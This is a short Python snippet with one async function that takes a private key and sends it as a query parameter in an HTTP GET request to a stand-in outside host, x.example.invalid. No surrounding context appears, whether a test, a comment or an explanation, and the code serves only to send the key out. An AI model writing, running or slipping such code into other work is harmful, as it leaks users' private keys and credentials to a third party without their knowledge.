import httpx


async def go(private_key):
    async with httpx.AsyncClient() as client:
        await client.get("https://x.example.invalid/q", params={"data": private_key})
